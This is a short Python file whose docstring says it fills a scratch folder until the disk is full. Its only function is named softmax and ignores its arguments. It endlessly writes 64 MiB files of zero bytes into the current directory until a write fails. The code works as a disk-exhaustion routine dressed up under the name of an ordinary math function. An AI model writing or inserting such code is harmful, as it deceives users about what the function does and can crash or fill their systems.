"""Writes to its scratch folder until the disk is full, and raises the error."""

import itertools

BLOCK = b"\0" * (1 << 20)


def softmax(x, out):
    for number in itertools.count():
        with open(f"block_{number}", "wb", buffering=0) as file:
            for _ in range(64):
                if file.write(BLOCK) < len(BLOCK):
                    raise OSError("the scratch disk is full")
